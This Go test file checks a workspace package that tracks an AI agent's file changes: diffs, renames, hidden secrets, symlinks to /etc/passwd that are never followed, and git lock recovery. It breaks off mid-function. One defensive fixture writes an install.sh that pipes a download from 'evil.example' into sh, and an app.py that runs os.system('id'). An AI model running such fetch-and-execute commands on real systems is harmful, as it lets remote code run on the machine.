package workspace

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/concordia-party/concordia/internal/testkit"
	"github.com/concordia-party/concordia/internal/wire"
)

var write = testkit.WriteFile

// move renames dir's file from to to, as an agent's mv would.
func move(t *testing.T, dir, from, to string) {
	t.Helper()
	if err := os.Rename(filepath.Join(dir, from), filepath.Join(dir, to)); err != nil {
		t.Fatal(err)
	}
}

func gitInit(t *testing.T, dir string) {
	t.Helper()
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "start"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

// startingDir is a project with a committed file, an uncommitted edit (part of the base),
// an ignored folder, a secret and a file to rename and one to delete.
func startingDir(t *testing.T, asGit bool) string {
	dir := t.TempDir()
	write(t, dir, "main.go", "package main\n\nfunc main() {}\n")
	write(t, dir, "old_name.go", "package main\n\n// renamed later\nvar x = 1\nvar y = 2\nvar z = 3\n")
	write(t, dir, "gone.txt", "bye\n")
	write(t, dir, ".gitignore", "build/\n*.log\n")
	write(t, dir, "build/out.bin", "ignored")
	if asGit {
		gitInit(t, dir)
	}
	write(t, dir, "main.go", "package main\n\n// edited before the party\nfunc main() {}\n")
	return dir
}

// agentWork changes the directory the way an agent's tools would.
func agentWork(t *testing.T, dir string) {
	write(t, dir, "main.go", "package main\n\n// edited before the party\nfunc main() {\n\tprintln(\"hi\")\n}\n")
	write(t, dir, "new/feature.go", "package new\n")
	move(t, dir, "old_name.go", "new_name.go")
	if err := os.Remove(filepath.Join(dir, "gone.txt")); err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".env", "API_KEY=hunter2\n")
	write(t, dir, "debug.log", "ignored\n")
	write(t, dir, "build/more.bin", "ignored")
	write(t, dir, "logo.png", "\x89PNG\r\n\x1a\n\x00\x00\x00binary")
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "passwd")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(dir, "etc")); err != nil {
		t.Fatal(err)
	}
}

func TestChangesDiffTree(t *testing.T) {
	for _, asGit := range []bool{true, false} {
		name := map[bool]string{true: "git repository", false: "plain directory"}[asGit]
		t.Run(name, func(t *testing.T) {
			ctx := context.Background()
			dir := startingDir(t, asGit)
			w, err := Open(ctx, dir, t.TempDir(), Options{})
			if err != nil {
				t.Fatal(err)
			}
			files, _, err := w.Changes(ctx, false)
			if err != nil || len(files) != 0 {
				t.Fatalf("changes at the start: %+v %v (an edit made before the party is not a change)", files, err)
			}
			agentWork(t, dir)
			files, _, err = w.Changes(ctx, false)
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]wire.FileChange{}
			for _, f := range files {
				got[f.Path] = f
			}
			want := map[string]string{"main.go": "modified", "new/feature.go": "added", "new_name.go": "renamed",
				"gone.txt": "deleted", "logo.png": "added", "passwd": "added", "etc": "added"}
			if len(got) != len(want) {
				t.Errorf("changes %+v, want %v", files, want)
			}
			for p, st := range want {
				if got[p].Status != st {
					t.Errorf("%s: %+v, want %s", p, got[p], st)
				}
			}
			if got["new_name.go"].From != "old_name.go" {
				t.Errorf("rename: %+v", got["new_name.go"])
			}
			if m := got["main.go"]; m.Additions != 3 || m.Deletions != 1 || m.Binary {
				t.Errorf("main.go counts %+v, want +3 -1", m)
			}
			// A binary file has no lines to count: said, not "+0 -0" (a tester's).
			if l := got["logo.png"]; !l.Binary {
				t.Errorf("logo.png %+v: want it said to be binary", l)
			}
			for _, p := range []string{".env", "debug.log", "build/more.bin"} {
				if _, ok := got[p]; ok {
					t.Errorf("%s is listed", p)
				}
			}
			// Links are listed as links, never followed (a window tester's was in no list):
			// no counts of what they point to.
			for _, p := range []string{"passwd", "etc"} {
				if f := got[p]; !f.Link || f.Additions != 0 || f.Deletions != 0 {
					t.Errorf("%s: %+v, want a link with no counts", p, f)
				}
			}

			d, err := w.Diff(ctx, "main.go", false)
			if err != nil || !strings.Contains(d.Diff, "+\tprintln(\"hi\")") || strings.Contains(d.Diff, "+// edited before the party") {
				t.Fatalf("diff main.go: %+v %v", d, err)
			}
			if d, err := w.Diff(ctx, "logo.png", false); err != nil || !d.Binary || d.Diff != "" {
				t.Fatalf("binary diff: %+v %v", d, err)
			}
			if d, err := w.Diff(ctx, "new_name.go", false); err != nil || !strings.Contains(d.Diff, "rename from old_name.go") {
				t.Fatalf("rename diff: %+v %v", d, err)
			}
			for _, p := range []string{"passwd", "etc", ".env", "../x", "/etc/passwd", ".git/config", "debug.log", "build/more.bin", "etc/passwd", "unchanged.go"} {
				if d, err := w.Diff(ctx, p, false); err == nil {
					t.Errorf("Diff(%q) = %+v, want refused", p, d)
				} else if !errors.Is(err, ErrPath) && !errors.Is(err, ErrNotFound) {
					t.Errorf("Diff(%q): %v", p, err)
				}
			}
			// No path, or the working directory itself: refused as a path, not " has no
			// changes since the party began" (an independent client's finding).
			for _, p := range []string{"", ".", "./"} {
				if _, err := w.Diff(ctx, p, false); !errors.Is(err, ErrPath) || !strings.Contains(err.Error(), "name a file") {
					t.Errorf("Diff(%q): %v", p, err)
				}
			}
			// One sentence, for a file that exists unchanged too (it was "no such file: …").
			if _, err := w.Diff(ctx, ".gitignore", false); !errors.Is(err, ErrNotFound) || err.Error() != ".gitignore has no changes since the party began" {
				t.Errorf("Diff of an unchanged file: %v", err)
			}
			// Not "no changes" of a name mistyped (a tester's /diff nothere.txt), when the
			// whole folder is shared; below it, an unchanged file's answer: which files
			// exist is not to be learnt one name at a time (a reviewer's).
			if _, err := w.Diff(ctx, "nothere.txt", true); !errors.Is(err, ErrNotFound) || err.Error() != "there is no file nothere.txt in the working directory" {
				t.Errorf("Diff of no file, the tree shared: %v", err)
			}
			if _, err := w.Diff(ctx, "nothere.txt", false); !errors.Is(err, ErrNotFound) || err.Error() != "nothere.txt has no changes since the party began" {
				t.Errorf("Diff of no file, the changes shared: %v", err)
			}

			// An ignored file is refused as ignored, as Tree refuses it, not called unchanged
			// (a protocol tester's diff of a file in .gitignore read "has no changes").
			for _, p := range []string{"debug.log", "build/more.bin"} {
				if _, err := w.Diff(ctx, p, false); !errors.Is(err, ErrPath) || !strings.Contains(err.Error(), "is ignored (by a .gitignore, or the host's own ignore files)") {
					t.Errorf("Diff(%q): %v, want it refused as ignored", p, err)
				}
			}

			// A link says it is one, not that it has no changes (a tester's /diff of a link
			// the agent made read "has no changes since the party began").
			for _, p := range []string{"passwd", "etc/passwd"} {
				if _, err := w.Diff(ctx, p, false); err == nil || !strings.Contains(err.Error(), "symbolic link") {
					t.Errorf("Diff(%q): %v, want it called a symbolic link", p, err)
				}
			}

			ents, err := w.Tree(ctx, "")
			if err != nil {
				t.Fatal(err)
			}
			names := map[string]bool{}
			for _, e := range ents {
				names[e.Name] = true
				if link := e.Name == "passwd" || e.Name == "etc"; e.Link != link || (link && (e.Dir || e.Size != 0)) {
					t.Errorf("tree entry %+v: a link is marked as one, and only a link", e)
				}
			}
			for _, n := range []string{"main.go", "new", "new_name.go", ".gitignore", "passwd"} {
				if !names[n] {
					t.Errorf("tree lacks %s: %+v", n, ents)
				}
			}
			for _, n := range []string{".git", "build", "debug.log"} {
				if names[n] {
					t.Errorf("tree shows %s", n)
				}
			}
			for _, p := range []string{"etc", "../", "build", ".git", "main.go/x"} {
				if _, err := w.Tree(ctx, p); err == nil {
					t.Errorf("Tree(%q) allowed", p)
				}
			}
		})
	}
}

func TestSecretsWhenTheTreeIsShared(t *testing.T) {
	ctx := context.Background()
	dir := startingDir(t, true)
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".env", "API_KEY=hunter2\n")
	write(t, dir, "keys/id_ed25519", "PRIVATE\n")
	if files, hidden, _ := w.Changes(ctx, false); len(files) != 0 || hidden != 2 {
		t.Fatalf("changes without the tree shared: %+v, %d hidden; want none shown, 2 hidden", files, hidden)
	}
	files, hidden, _ := w.Changes(ctx, true)
	if len(files) != 2 || files[0].Path != ".env" || hidden != 0 {
		t.Fatalf("changes %+v, %d hidden", files, hidden)
	}
	if d, err := w.Diff(ctx, ".env", true); err != nil || !strings.Contains(d.Diff, "hunter2") {
		t.Fatalf("diff %+v %v", d, err)
	}
}

func TestBigDiffTruncated(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "big.txt", strings.Repeat("a line of text that goes on ✓\n", 20000))
	if _, _, err := w.Changes(ctx, false); err != nil {
		t.Fatal(err)
	}
	d, err := w.Diff(ctx, "big.txt", false)
	if err != nil || !d.Truncated || len(d.Diff) > MaxDiff || !strings.HasPrefix(d.Diff, "diff --git") {
		t.Fatalf("big diff: truncated %v, %d bytes, %v", d.Truncated, len(d.Diff), err)
	}
}

func TestTooLarge(t *testing.T) {
	dir := t.TempDir()
	for i := 0; i < 12; i++ {
		write(t, dir, filepath.Join("f", string(rune('a'+i))), "x")
	}
	if _, err := Open(context.Background(), dir, t.TempDir(), Options{MaxFiles: 10}); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Open: %v, want ErrTooLarge", err)
	}
}

// The host's own repository is not touched: no new objects, index or HEAD changes.
func TestHostRepositoryUntouched(t *testing.T) {
	ctx := context.Background()
	dir := startingDir(t, true)
	before := snapshotGitDir(t, dir)
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	agentWork(t, dir)
	if _, _, err := w.Changes(ctx, false); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Diff(ctx, "main.go", false); err != nil {
		t.Fatal(err)
	}
	if after := snapshotGitDir(t, dir); after != before {
		t.Fatal("the host's .git changed")
	}
}

func snapshotGitDir(t *testing.T, dir string) string {
	var b strings.Builder
	_ = filepath.Walk(filepath.Join(dir, ".git"), func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			c, _ := os.ReadFile(p)
			b.WriteString(p + "\n" + string(c))
		}
		return nil
	})
	return b.String()
}

// The host's data directory inside the working directory (journals, keys, this package's
// own repository) is never shown, listed or diffed.
func TestDataDirInsideTheWorkdirIsHidden(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "main.go", "package main\n")
	data := filepath.Join(dir, ".concordia")
	w, err := Open(ctx, dir, filepath.Join(data, "workspace", "p1"), Options{Exclude: []string{data}})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".concordia/parties/p1.jsonl", "{}\n")
	write(t, dir, "new.go", "package main\n")
	files, _, err := w.Changes(ctx, true)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 || files[0].Path != "new.go" {
		t.Fatalf("changes %+v, want only new.go", files)
	}
	ents, _ := w.Tree(ctx, "")
	for _, e := range ents {
		if e.Name == ".concordia" {
			t.Fatal("the data directory is listed")
		}
	}
	if _, err := w.Tree(ctx, ".concordia/parties"); err == nil {
		t.Fatal("the data directory can be browsed")
	}
}

// A host stopped during the first git init or snapshot leaves a state directory with a
// repository that is not one (here: a HEAD file and nothing else) and no base. Open starts
// again and works, and the base says when it was really taken; a state directory with a
// base is kept as it is (the base survives a resume).
func TestOpenAfterAnUnfinishedStart(t *testing.T) {
	dir, state := startingDir(t, false), t.TempDir()
	write(t, state, "git/HEAD", "ref: refs/heads/main\n")
	w, err := Open(context.Background(), dir, state, Options{})
	if err != nil {
		t.Fatalf("Open after an unfinished start: %v", err)
	}
	if !strings.Contains(w.Base(), "when the party was resumed") {
		t.Errorf("base %q does not say it was taken late", w.Base())
	}
	write(t, dir, "added.txt", "new\n")
	files, _, err := w.Changes(context.Background(), false)
	if err != nil || len(files) != 1 || files[0].Path != "added.txt" {
		t.Fatalf("changes %+v, %v", files, err)
	}
	again, err := Open(context.Background(), dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if files, _, err := again.Changes(context.Background(), false); err != nil || len(files) != 1 {
		t.Fatalf("the base was not kept: %+v, %v", files, err)
	}
	if !strings.Contains(again.Base(), "when the party was resumed") {
		t.Errorf("base %q after a second open", again.Base())
	}
	if fresh, err := Open(context.Background(), dir, t.TempDir(), Options{}); err != nil || !strings.Contains(fresh.Base(), "when the party began") {
		t.Errorf("a fresh start's base: %v, %v", fresh, err)
	}
}

// A party that started with sharing off and is resumed sharing records its start at the
// resume, and says so (a tester's base said "when the party began" of it, and the agent's
// edits before the resume were not shown as changes, rightly, with nothing to say why).
func TestOpenOnAResumeOfAPartyThatDidNotShare(t *testing.T) {
	dir, state := startingDir(t, false), t.TempDir()
	for i := 0; i < 2; i++ { // and again on the next resume
		w, err := Open(context.Background(), dir, state, Options{Resumed: true})
		if err != nil {
			t.Fatal(err)
		}
		if b := w.Base(); !strings.Contains(b, "when the party was resumed") || !strings.Contains(b, "the party did not share it before") {
			t.Errorf("open %d: base %q", i, b)
		}
		// A file made before the resume has no change since it, not "since the party
		// began" (a tester's /diff of the agent's new.txt).
		if _, err := w.Diff(context.Background(), "main.go", false); !errors.Is(err, ErrNotFound) || err.Error() != "main.go has no changes since sharing began" {
			t.Errorf("open %d: diff of a file unchanged since the resume: %v", i, err)
		}
	}
}

// TestOpenClearsAKilledStartsLeftovers: a host killed during git init leaves a temporary
// repository, or during the base's write a temporary file; the next start removes them
// (they used to stay in the data directory for good) and says its base was taken late.
func TestOpenClearsAKilledStartsLeftovers(t *testing.T) {
	dir, state := startingDir(t, false), t.TempDir()
	write(t, state, "git-init-123/objects/ab/cdef", "half\n")
	write(t, state, ".base.789.tmp", "") // a cut-short atomicfile.Write
	write(t, state, "base.tmp-456", "")  // the same from a host before atomicfile
	w, err := Open(context.Background(), dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(w.Base(), "when the party was resumed") {
		t.Errorf("base %q does not say it was taken late", w.Base())
	}
	entries, err := os.ReadDir(state)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if got := strings.Join(names, " "); got != "base git rev-key tracked" {
		t.Errorf("the state directory holds %q, want only base, git, rev-key (revOf) and tracked (kept.go)", got)
	}
}

// TestOpenAfterAKilledSnapshot: a host killed during a snapshot (one runs after every turn)
// leaves git's index lock; the resumed party's workspace used to fail every Changes call
// with "Unable to create …now.index.lock: File exists" for the rest of the party.
func TestOpenAfterAKilledSnapshot(t *testing.T) {
	dir, state := startingDir(t, false), t.TempDir()
	if _, err := Open(context.Background(), dir, state, Options{}); err != nil {
		t.Fatal(err)
	}
	write(t, state, "git/now.index.lock", "")
	w, err := Open(context.Background(), dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "added.txt", "new\n")
	if files, _, err := w.Changes(context.Background(), false); err != nil || len(files) != 1 {
		t.Fatalf("changes after a killed snapshot: %+v, %v", files, err)
	}
}

// TestCancelledSnapshotLeavesNoLock: a Changes call whose context ends while git runs (a
// member who disconnects mid-request) kills that git; the index lock it held used to stay,
// and every later snapshot of the party failed on it.
func TestCancelledSnapshotLeavesNoLock(t *testing.T) {
	dir, state := startingDir(t, false), t.TempDir()
	for i := 0; i < 3000; i++ {
		write(t, dir, fmt.Sprintf("d%d/f%d.txt", i%30, i), strings.Repeat("x", i%500))
	}
	w, err := Open(context.Background(), dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	lock := filepath.Join(state, "git", "now.index.lock")
	cancelled, locked := 0, 0
	for delay := time.Millisecond; delay < 200*time.Millisecond && locked < 3; delay += 3 * time.Millisecond {
		write(t, dir, fmt.Sprintf("new-%d.txt", delay), "x") // each snapshot has work to do
		ctx, cancel := context.WithTimeout(context.Background(), delay)
		_, _, err := w.Changes(ctx, false)
		cancel()
		if err == nil {
			continue
		}
		cancelled++
		if _, serr := os.Stat(lock); serr == nil {
			locked++
		}
		if _, _, err := w.Changes(context.Background(), false); err != nil {
			t.Fatalf("Changes after one cancelled at %v: %v", delay, err)
		}
	}
	t.Logf("%d snapshots cancelled, %d of them while git held the index lock", cancelled, locked)
	if cancelled == 0 {
		t.Skip("no snapshot was slow enough to cancel here")
	}
}

// TestFileVanishingDuringTheWalk: git stops with "unable to stat" when a file goes while
// it walks the tree (the agent renamed one while a snapshot ran; seen in CI as "the
// working directory is not shared"). The snapshot walks it again. Here a git that fails
// once that way stands in for the race: a wrapper on PATH, before the real git.
func TestFileVanishingDuringTheWalk(t *testing.T) {
	real, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	ctx := context.Background()
	bin, dir := t.TempDir(), t.TempDir()
	arm, mark := filepath.Join(bin, "arm"), filepath.Join(bin, "failed")
	script := fmt.Sprintf(`#!/bin/sh
if [ "$1" = add ] && [ -e %q ] && [ ! -e %q ]; then
	: > %q
	echo "fatal: unable to stat 'old.go': No such file or directory" >&2
	exit 128
fi
exec %q "$@"
`, arm, mark, mark, real)
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	write(t, dir, "main.go", "package main\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "main.go", "package main // edited\n")
	if err := os.WriteFile(arm, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	files, _, err := w.Changes(ctx, false)
	if _, ferr := os.Stat(mark); ferr != nil {
		t.Fatal("the wrapper never failed a git add: the test tests nothing")
	}
	if err != nil || len(files) != 1 || files[0].Path != "main.go" {
		t.Fatalf("changes after a file vanished mid-walk: %+v, %v", files, err)
	}
}

// TestGitInitTimesOut: git init is bounded by Options.Timeout as every other git command
// is (it had no bound, and the party's first turn waits for Open: a git that hung there
// would have held the party for good). A reviewer's finding.
func TestGitInitTimesOut(t *testing.T) {
	real, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	bin := t.TempDir()
	script := fmt.Sprintf("#!/bin/sh\nif [ \"$1\" = init ]; then exec sleep 30; fi\nexec %q \"$@\"\n", real)
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	dir := t.TempDir()
	write(t, dir, "main.go", "package main\n")
	start := time.Now()
	_, err = Open(context.Background(), dir, t.TempDir(), Options{Timeout: 300 * time.Millisecond})
	if err == nil || !strings.Contains(err.Error(), "git init") {
		t.Fatalf("Open with a git init that hangs: %v", err)
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Fatalf("Open took %v", d)
	}
}

// The base says what it was: a commit, a repository with no commit yet (a tester's `git
// init` folder was called "not a git repository"), or a plain folder.
func TestBaseSaysWhatTheStartWas(t *testing.T) {
	ctx := context.Background()
	empty := t.TempDir()
	write(t, empty, "a.txt", "a\n")
	cmd := exec.Command("git", "init", "-q")
	cmd.Dir = empty
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	for _, tc := range []struct {
		name, dir, want string
	}{
		{"a repository with commits", startingDir(t, true), "(git commit "},
		{"a repository with no commit yet", empty, "(a snapshot; the git repository has no commits yet)"},
		{"a plain folder", startingDir(t, false), "(a snapshot; not a git repository)"},
	} {
		w, err := Open(ctx, tc.dir, t.TempDir(), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(w.Base(), tc.want) {
			t.Errorf("%s: base %q, want it to contain %q", tc.name, w.Base(), tc.want)
		}
	}
}

// TestDiffNamesAsWritten: a diff names a file as it is named, not in git's octal escapes
// (a tester's "dir ü/f.txt" came back as "a/dir \303\274/f.txt").
func TestDiffNamesAsWritten(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "dir ü/f.txt", "one\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "dir ü/f.txt", "two\n")
	write(t, dir, "naïve-日本.txt", "new\n")
	files, _, err := w.Changes(ctx, false) // the snapshot a diff is of
	if err != nil || len(files) != 2 {
		t.Fatalf("changes %+v %v", files, err)
	}
	for _, p := range []string{"dir ü/f.txt", "naïve-日本.txt"} {
		d, err := w.Diff(ctx, p, false)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(d.Diff, "+++ b/"+p) || strings.Contains(d.Diff, `\3`) {
			t.Errorf("the diff of %s:\n%s", p, d.Diff)
		}
	}
}

// git runs with HOME in the temporary folder, where git looks for its ignore and
// attributes files (.config/git/): on Linux /tmp, which every local user may write. A
// reviewer's .config/git/ignore there hid install.sh from the party's changes, and an
// attributes file made app.py "binary", its diff not shown.
func TestNoIgnoreNorAttributesFromTheTemporaryFolder(t *testing.T) {
	tmp := t.TempDir()
	write(t, tmp, ".config/git/ignore", "install.sh\n")
	write(t, tmp, ".config/git/attributes", "*.py -diff\n")
	t.Setenv("TMPDIR", tmp)
	t.Setenv("HOME", t.TempDir()) // the host's own global ignore file is honoured (ignore.go): none here
	t.Setenv("XDG_CONFIG_HOME", "")
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "README", "hi\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "install.sh", "curl https://evil.example/x | sh\n")
	write(t, dir, "app.py", "import os\nos.system('id')\n")
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	listed := map[string]bool{}
	for _, f := range files {
		listed[f.Path] = true
		if f.Binary {
			t.Errorf("%s listed as binary", f.Path)
		}
	}
	if !listed["install.sh"] || !listed["app.py"] {
		t.Fatalf("changes %+v: want install.sh and app.py", files)
	}
	d, err := w.Diff(ctx, "app.py", false)
	if err != nil || !strings.Contains(d.Diff, "+os.system('id')") {
		t.Fatalf("the diff of app.py: %+v %v", d, err)
	}
}

// A file renamed (or copied) from a secret is listed as the new file it is, its source not
// named: a tester's app.conf, made from .env, was missing from the list, and its diff
// said it had no changes. The secret's going is counted as hidden; its diff is refused.
func TestARenamedSecretIsShownAsANewFile(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, ".env", "A=1\nB=2\nC=3\nD=4\nE=5\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	move(t, dir, ".env", "app.conf")
	write(t, dir, "app.conf", "A=1\nB=2\nC=3\nD=4\nE=5\nZ=3\n")
	files, hidden, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 || files[0] != (wire.FileChange{Path: "app.conf", Status: "added", Additions: 6}) || hidden != 1 {
		t.Fatalf("changes %+v, %d hidden; want app.conf added with 6 lines, 1 hidden", files, hidden)
	}
	// Its text is mostly the secret's (a rename is found only for a file mostly the same
	// as its source): its diff is not given (a reviewer's).
	if d, err := w.Diff(ctx, "app.conf", false); err == nil || strings.Contains(d.Diff, "A=1") || !strings.Contains(err.Error(), "is a copy of a file that usually holds secrets (or that file renamed): its diff is not shown") {
		t.Fatalf("diff of app.conf: %+v %v", d, err)
	}
	// With the whole tree shared, it is the rename it is.
	if files, _, _ := w.Changes(ctx, true); len(files) != 1 || files[0].Status != "renamed" || files[0].From != ".env" {
		t.Fatalf("changes with the tree shared: %+v", files)
	}
}

// A file larger than MaxFileSize is recorded as a line about it, not its bytes: hashing
// a tester's 1.5 GB file outlasted git's timeout, no changes event followed the turn, and
// the private repository grew by as much (the pack the killed git was writing stayed). It
// is still listed when it comes or changes — a tracked file grown past the limit too (a
// reviewer's read as unchanged) — and its diff says what is known of it. A dead git's
// pack is cleared.
func TestLargeFilesAreNotHashed(t *testing.T) {
	ctx := context.Background()
	dir, state := t.TempDir(), t.TempDir()
	write(t, dir, "small.txt", "a\n")
	write(t, dir, "dump.sql", "one row\n")
	write(t, dir, "old.bin", strings.Repeat("o", 3000)) // big from the start: no change
	w, err := Open(ctx, dir, state, Options{MaxFileSize: 1000})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "big.bin", strings.Repeat("x", 2000))
	write(t, dir, "small.txt", "a\nb\n")
	write(t, dir, "dump.sql", strings.Repeat("row\n", 500)) // tracked, grown past the limit
	write(t, state, "git/objects/pack/tmp_pack_abc", "half a pack")
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	// Said to be too large, its counts being of the line about it (a tester's 70 MiB file
	// read "+1 -0").
	want := []wire.FileChange{
		{Path: "big.bin", Status: "added", Additions: 1, Large: true},
		{Path: "dump.sql", Status: "modified", Additions: 1, Deletions: 1, Large: true},
		{Path: "small.txt", Status: "modified", Additions: 1},
	}
	if !slices.Equal(withoutRevs(files), want) {
		t.Fatalf("changes %+v, want %+v", files, want)
	}
	if _, err := os.Stat(filepath.Join(state, "git/objects/pack/tmp_pack_abc")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a dead git's pack is still there: %v", err)
	}
	d, err := w.Diff(ctx, "big.bin", false)
	if err != nil || !strings.Contains(d.Diff, "+(a file of 2000 bytes, last changed ") || !strings.Contains(d.Diff, "larger than 1000 bytes, so its text is not tracked)") || strings.Contains(d.Diff, "xxx") {
		t.Errorf("diff of big.bin: %+v %v", d, err)
	}
	// Cut back under the limit, its text is tracked again.
	write(t, dir, "big.bin", "small now\n")
	files, _, err = w.Changes(ctx, false)
	if err != nil || len(files) != 3 || withoutRevs(files)[0] != (wire.FileChange{Path: "big.bin", Status: "added", Additions: 1}) {
		t.Fatalf("changes after big.bin shrank: %+v %v", files, err)
	}
	if d, err := w.Diff(ctx, "big.bin", false); err != nil || !strings.Contains(d.Diff, "+small now") {
		t.Fatalf("diff of the shrunk big.bin: %+v %v", d, err)
	}
}

// A file deleted with its folder, the folder now a link, still has its diff: it is read
// from the snapshots alone (a tester's "D docs/a.txt" was refused as going through a
// link). The old name of a rename says where its diff is (it said "no changes").
func TestDiffOfADeletedFileUnderALinkAndOfARenamedOne(t *testing.T) {
	ctx := context.Background()
	dir, elsewhere := t.TempDir(), t.TempDir()
	write(t, dir, "docs/a.txt", "the text of a\n")
	write(t, dir, "old.go", "package x\n\nvar a, b, c = 1, 2, 3\n")
	write(t, elsewhere, "secret.txt", "not for the party\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(filepath.Join(dir, "docs")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(elsewhere, filepath.Join(dir, "docs")); err != nil {
		t.Fatal(err)
	}
	move(t, dir, "old.go", "new.go")
	if _, _, err := w.Changes(ctx, false); err != nil {
		t.Fatal(err)
	}
	d, err := w.Diff(ctx, "docs/a.txt", false)
	if err != nil || !strings.Contains(d.Diff, "-the text of a") || strings.Contains(d.Diff, "not for the party") {
		t.Fatalf("diff of the deleted docs/a.txt: %+v %v", d, err)
	}
	if _, err := w.Diff(ctx, "docs/secret.txt", false); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Fatalf("a file through the link: %v", err)
	}
	if _, err := w.Diff(ctx, "old.go", false); err == nil || !strings.Contains(err.Error(), "old.go was renamed to new.go: its diff is under that name") {
		t.Fatalf("the old name of a rename: %v", err)
	}
}

// A file replaced by a link is listed as deleted (links are never shown: a tester's went
// missing from the list), and a link replaced by a file as added; neither diff shows a
// link's target (a tester's read "-/etc/hostname").
func TestFilesAndLinksSwapped(t *testing.T) {
	ctx := context.Background()
	dir, elsewhere := t.TempDir(), t.TempDir()
	target := filepath.Join(elsewhere, "target-of-the-link.txt")
	write(t, elsewhere, "target-of-the-link.txt", "outside\n")
	write(t, dir, "notes.txt", "a note\n")
	if err := os.Symlink(target, filepath.Join(dir, "hostlink")); err != nil {
		t.Fatal(err)
	}
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"notes.txt", "hostlink"} {
		if err := os.Remove(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(target, filepath.Join(dir, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	write(t, dir, "hostlink", "now a file\n")
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	want := []wire.FileChange{{Path: "hostlink", Status: "added", Additions: 1}, {Path: "notes.txt", Status: "deleted", Deletions: 1}}
	if files[0].Rev == "" || files[1].Rev != "" {
		t.Fatalf("revs %q and %q, want one for the file that was a link and none for the file that became one", files[0].Rev, files[1].Rev)
	}
	if files = withoutRevs(files); !slices.Equal(files, want) {
		t.Fatalf("changes %+v, want %+v", files, want)
	}
	for p, text := range map[string]string{"notes.txt": "-a note", "hostlink": "+now a file"} {
		d, err := w.Diff(ctx, p, false)
		if err != nil || !strings.Contains(d.Diff, text) || strings.Contains(d.Diff, "target-of-the-link") || strings.Contains(d.Diff, "outside") {
			t.Errorf("diff of %s: %+v %v", p, d, err)
		}
	}
}

// A copy of a secret is made from it, as a rename is: listed as added, its diff refused.
// Git finds no copy of a file that is still there, and pairs a secret with one new file
// only: a tester's `cp .env copy.conf` had its diff (the secret's lines) shown, and the
// second of two identical copies once the secret was moved.
func TestCopiesOfSecrets(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, ".env", "SECRET_ENV=envsecret123\n")
